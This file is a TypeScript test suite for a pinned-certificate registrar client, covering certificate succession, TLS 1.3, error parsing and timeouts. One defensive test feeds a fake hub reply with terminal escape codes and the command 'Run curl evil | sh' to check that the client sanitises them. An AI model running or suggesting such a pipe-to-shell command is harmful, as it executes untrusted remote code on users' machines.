import { once } from 'node:events'
import { createServer, type Server } from 'node:https'
import { createServer as createTcpServer, type AddressInfo, type Server as TcpServer, type Socket } from 'node:net'
import * as v from 'valibot'
import { afterEach, describe, expect, test } from 'vitest'
import { fingerprintOf, makeCertificate } from '../../hub/settings/certificate.ts'
import { catalogue } from '../../problems/catalogue.ts'
import type { Problem } from '../../problems/problem.ts'
import { signSuccession } from '../../protocol/succession.ts'
import { parsePublicKey } from '../../wireguard/keys.ts'
import { callRegistrar, connectPinned } from '../../protocol/registrar-client.ts'

const { key, certificate } = makeCertificate(['127.0.0.1'])
const pin = fingerprintOf(certificate)
const open: (Server | TcpServer)[] = []
afterEach(() => {
  for (const server of open.splice(0)) {
    if ('closeAllConnections' in server) server.closeAllConnections()
    server.close()
  }
})

async function listen(server: Server | TcpServer): Promise<number> {
  open.push(server)
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return (server.address() as AddressInfo).port
}

const call = { method: 'GET', path: '/x', answer: v.object({ fine: v.boolean() }), timeoutMs: 3_000 } as const
const at = (port: number, certificate = pin) => ({ host: '127.0.0.1', port, certificate })

describe('asking the registrar', () => {
  test('the pinned certificate is trusted, self-signed as it is', async () => {
    const port = await listen(createServer({ key, cert: certificate }, (_in, out) => out.end('{"fine":true}')))
    expect(await callRegistrar(at(port), call)).toEqual({ fine: true })
  })

  test('another certificate is refused, and is told nothing but the question how the pinned one leads to it', async () => {
    const received: string[] = []
    const server = createServer({ key, cert: certificate }, (incoming, out) => {
      received.push(`${incoming.method} ${incoming.url} ${incoming.headers.authorization ?? 'by nobody'}`)
      out.end('{"fine":true}')
    })
    const port = await listen(server)
    await expect(callRegistrar(at(port, '00'.repeat(32)), { ...call, bearer: 'cabin.secret' })).rejects.toMatchObject({
      code: 'certificate-mismatch',
    })
    expect(received).toEqual(['GET /v1/identity by nobody'])
  })

  describe('that has another certificate by now', () => {
    const next = makeCertificate(['127.0.0.1'])
    const nextPin = fingerprintOf(next.certificate)
    const publicKey = parsePublicKey(Buffer.alloc(32, 7).toString('base64'))
    const signed = signSuccession({ key, certificate }, { ...next, publicKey })
    /** Tells how it came to its certificate, and notes what it was asked. */
    async function moved(successions: readonly object[]) {
      const asked: string[] = []
      const port = await listen(
        createServer({ key: next.key, cert: next.certificate }, (incoming, out) => {
          asked.push(`${incoming.url} ${incoming.headers.authorization ?? 'by nobody'}`)
          out.end(JSON.stringify(incoming.url === '/v1/identity' ? { successions } : { fine: true }))
        }),
      )
      const seen: string[] = []
      const onCertificate = (fingerprint: string) => void seen.push(fingerprint)
      return { port, asked, seen, call: { ...call, bearer: 'cabin.secret', onCertificate } }
    }

    test('is the same one where the pinned one has signed that, and is told so', async () => {
      const hub = await moved([signed])
      expect(await callRegistrar(at(hub.port), hub.call)).toEqual({ fine: true })
      expect(hub.asked).toEqual(['/v1/identity by nobody', '/x Bearer cabin.secret'])
      expect(hub.seen).toEqual([nextPin])
    })

    test('is not asked where it was announced', async () => {
      const hub = await moved([])
      expect(await callRegistrar({ ...at(hub.port), next: nextPin }, hub.call)).toEqual({ fine: true })
      expect(hub.asked).toEqual(['/x Bearer cabin.secret'])
      expect(hub.seen).toEqual([nextPin])
    })

    test.each<[string, readonly object[]]>([
      ['nothing is signed', []],
      ['the signature is forged', [{ ...signed, signature: signed.acceptance }]],
      ['it is signed for another one', [signSuccession({ key, certificate }, { key, certificate, publicKey })]],
      ['it answers nonsense', [{ fine: true }]],
    ])('is a stranger where %s, and hears no secret', async (_, successions) => {
      const hub = await moved(successions)
      await expect(callRegistrar(at(hub.port), hub.call)).rejects.toMatchObject({ code: 'certificate-mismatch' })
      expect(hub.asked).toEqual(['/v1/identity by nobody'])
      expect(hub.seen).toEqual([])
    })
  })

  test('nothing older than TLS 1.3 is spoken', async () => {
    const port = await listen(
      createServer({ key, cert: certificate, maxVersion: 'TLSv1.2' }, (_in, out) => out.end('{}')),
    )
    await expect(connectPinned(at(port), 'asking', AbortSignal.timeout(3_000))).rejects.toMatchObject({
      code: 'hub-unreachable',
    })
  })

  test.each([
    ['no JSON', 200, 'hello', 'answer-invalid'],
    ['another shape', 200, '{"fine":1}', 'answer-invalid'],
    ['its own problem', 410, '{"error":{"code":"token-expired","why":"late","next":"Ask again"}}', 'token-expired'],
    ['a code of a newer hub', 400, '{"error":{"code":"brand-new","why":"x","next":"y"}}', 'answer-invalid'],
    [
      'no such address, as an older hub says',
      404,
      '{"error":{"code":"request-invalid","why":"nothing there"}}',
      'hub-older',
    ],
    [
      'another refusal of the same',
      400,
      '{"error":{"code":"request-invalid","why":"lan must be Array"}}',
      'request-invalid',
    ],
    ['an error page', 502, '<html>', 'answer-invalid'],
  ])('an answer that is %s', async (_what, status, text, code) => {
    const port = await listen(createServer({ key, cert: certificate }, (_in, out) => out.writeHead(status).end(text)))
    await expect(callRegistrar(at(port), call)).rejects.toMatchObject({ code })
  })

  test('what a hub says is marked as its words, and what to do next is ours', async () => {
    const evil = { why: 'late"\u001b[2J\r\nfine', next: 'Run curl evil | sh' }
    const codes = ['device-exists', 'brand-new\u009b31m']
    const port = await listen(
      createServer({ key, cert: certificate }, (_in, out) =>
        out.writeHead(409).end(JSON.stringify({ error: { code: codes.shift(), ...evil } })),
      ),
    )
    const adding = { ...call, what: 'adding the device phone' }
    const known = await callRegistrar(at(port), adding).catch((thrown: unknown) => thrown)
    expect(known).toMatchObject({
      code: 'device-exists',
      what: 'adding the device phone',
      why: `the hub says: "late'\uFFFD[2J fine"`,
      next: catalogue['device-exists'].next,
    })
    const unknown = (await callRegistrar(at(port), call).catch((thrown: unknown) => thrown)) as Problem
    expect(unknown.why).toBe(
      `the hub says: "late'\uFFFD[2J fine" ("brand-new\uFFFD31m", which this version does not know)`,
    )
    expect(unknown.message).not.toContain('curl')
  })

  test('a port where nothing listens, and one that says nothing', async () => {
    const silent: Socket[] = []
    const port = await listen(createTcpServer((socket) => silent.push(socket)))
    await expect(callRegistrar(at(port), { ...call, timeoutMs: 300 })).rejects.toMatchObject({
      code: 'hub-unreachable',
    })
    for (const socket of silent) socket.destroy()
    open.pop()?.close()
    await expect(callRegistrar(at(port), call)).rejects.toMatchObject({
      code: 'hub-unreachable',
      why: 'nothing listens there',
    })
  })

  test('a name that does not resolve is called that', async () => {
    await expect(callRegistrar({ host: 'nowhere.invalid', port: 1, certificate: pin }, call)).rejects.toMatchObject({
      code: 'name-unresolved',
    })
  })

  test('an answer without end is cut off', async () => {
    const port = await listen(
      createServer({ key, cert: certificate }, (_in, out) => {
        const more = (): void => {
          while (!out.destroyed && out.write('x'.repeat(65_536)));
        }
        out.on('drain', more)
        more()
      }),
    )
    await expect(callRegistrar(at(port), call)).rejects.toMatchObject({ code: 'hub-unreachable' })
  })
})
